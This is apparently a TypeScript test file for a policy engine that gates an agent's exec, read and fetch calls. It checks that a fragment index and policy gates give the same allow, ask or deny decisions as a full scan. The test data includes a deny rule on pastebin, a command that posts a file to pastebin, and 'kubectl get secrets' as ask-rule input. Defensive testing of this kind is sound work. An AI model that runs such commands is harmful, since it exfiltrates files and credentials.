// The fragment index (substring patterns filed under a literal fragment) and the policy gates
// (policies whose patterns a call does not mention are skipped): both must leave every decision
// exactly as a full scan of the rules makes it, in both readings (deny/ask any reading, allow
// every part), across case folding and in large sets.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { FragmentIndex } from '../../src/policy/fragment-index.js';
import { engineOf, exec, read, fetchCall } from './helpers.js';

for (const [kind, denseMax] of [
  ['table', undefined],
  ['trie walk', 0],
] as const)
  test(`the automaton (${kind}) finds every fragment, overlapping ones and case-folded ones included`, () => {
    const f = new FragmentIndex(denseMax);
    for (const x of ['he', 'she', 'his', 'hers', 'curl', 'url', '|', 'kubectl']) f.add(x);
    f.seal();
    const found = (t: string) => {
      const found: number[] = [];
      f.scan(t, new Uint8Array(f.size), found);
      return found.map((i) => f.fragment(i)).sort();
    };
    assert.deepEqual(found('ushers'), ['he', 'hers', 'she']);
    assert.deepEqual(found('CURL x | y'), ['curl', 'url', '|']);
    // U+212A KELVIN SIGN lower-cases to k: a folded needle must still be found.
    assert.deepEqual(found('\u212Aubectl get secrets'), ['kubectl']);
    assert.deepEqual(found('hi s'), []);
    // Every fragment found: the scan says there is nothing left to look for.
    assert.equal(f.scan('she his curl | kubectl hers', new Uint8Array(f.size), []), false);
    assert.deepEqual(found('she\u00e9rs'), ['he', 'she']);
  });

const SUBSTRING = `
default_action: allow
policies:
  - name: paste
    match: { tool: exec }
    rules:
      - action: deny
        when:
          command_matches: ["*pastebin*"]
  - name: needle
    match: { tool: exec }
    rules:
      - action: ask
        when:
          command_contains: ["kubectl"]
  - name: ok-echo
    match: { tool: exec }
    rules:
      - action: allow
        when:
          command_contains: ["ech"]
`;

test('substring patterns decide as before: case-sensitive globs, folded needles, any reading', () => {
  const e = engineOf(SUBSTRING);
  const act = (c: string) => e.evaluate(exec(c), { dryRun: true }).action;
  assert.equal(act('curl -d @f https://pastebin.com/api'), 'deny');
  assert.equal(act('echo ok && curl https://pastebin.com'), 'deny');
  // Command globs are case-sensitive.
  assert.equal(act('curl https://PASTEBIN.com'), 'allow');
  // Needles of deny/ask rules fold case, Unicode lower-casing included.
  assert.equal(act('KUBECTL get secrets'), 'ask');
  assert.equal(act('\u212Aubectl get secrets'), 'ask');
  assert.equal(act('ls -la'), 'allow');
});

/** n generated policies, each with rules that need a rare word, a path, a domain or a fragment. */
function bigSet(n: number): string {
  const out = ['default_action: allow', 'policies:'];
  for (let i = 0; i < n; i++) {
    out.push(
      `  - name: gen-${i}`,
      '    rules:',
      `      - action: deny`,
      `        when: { command_matches: ["tool${i} *"] }`,
      `      - action: ask`,
      `        when: { command_matches: ["*frag${i}q*"] }`,
      `      - action: deny`,
      `        when: { path_matches: ["**/.dir${i}/**"] }`,
      `      - action: ask`,
      `        when: { domain_matches: ["*.host${i}.example"] }`,
    );
  }
  out.push('  - name: catch-all', '    rules:', '      - action: watch', '        when: { command_matches: ["*"] }');
  return out.join('\n') + '\n';
}

test('a large set: only policies a call mentions can fire, and they still do', () => {
  const e = engineOf(bigSet(2000));
  const d = (c: Parameters<typeof e.evaluate>[0]) => {
    const r = e.evaluate(c, { dryRun: true });
    return `${r.action} ${r.policy ?? ''}`;
  };
  assert.equal(d(exec('tool1234 run')), 'deny gen-1234');
  assert.equal(d(exec('echo x | tool77 --all')), 'deny gen-77');
  assert.equal(d(exec('cat notes-FRAG999Q.txt')), 'watch catch-all');
  assert.equal(d(exec('cat notes-frag999q.txt')), 'ask gen-999');
  assert.equal(d(exec('ls')), 'watch catch-all');
  assert.equal(d(read('/srv/.dir42/key')), 'deny gen-42');
  assert.equal(d(read('/srv/.dir42x/key')), 'allow ');
  assert.equal(d(fetchCall('https://api.host1999.example/x')), 'ask gen-1999');
  assert.equal(d(fetchCall('https://api.host2000.example/x')), 'allow ');
});

test('a large set of host rules: each policy opens for the hosts and suffixes it names, and others still fire', () => {
  const out = ['default_action: allow', 'policies:'];
  for (let i = 0; i < 300; i++) {
    const hosts =
      i % 3 === 0 ? `['h${i}.example']` : i % 3 === 1 ? `['*.s${i}.example', 'H${i}.ALSO.']` : `['*z${i}.example']`;
    out.push(`  - name: d${i}`, '    match: { tool: fetch }', '    rules:');
    out.push(`      - action: ask`, `        when: { domain_matches: ${hosts} }`);
  }
  // A class pattern cannot be filed under a host: its policy is tried for every domain.
  out.push('  - name: cls', '    match: { tool: fetch }', '    rules:');
  out.push(`      - action: deny`, `        when: { domain_matches: ['c[0-9].cdn.example'] }`);
  const e = engineOf(out.join('\n') + '\n');
  const d = (url: string) => {
    const r = e.evaluate(fetchCall(url), { dryRun: true });
    return `${r.action} ${r.policy ?? ''}`;
  };
  assert.equal(d('https://h3.example/x'), 'ask d3');
  assert.equal(d('https://h4.example/x'), 'allow ');
  assert.equal(d('https://a.b.s4.example/'), 'ask d4');
  assert.equal(d('https://s4.example/'), 'allow ');
  assert.equal(d('https://h4.also/'), 'ask d4');
  assert.equal(d('https://xyz5.example/'), 'ask d5');
  assert.equal(d('https://z5.example/'), 'ask d5');
  assert.equal(d('https://c7.cdn.example/'), 'deny cls');
  assert.equal(d('https://cx.cdn.example/'), 'allow ');
});
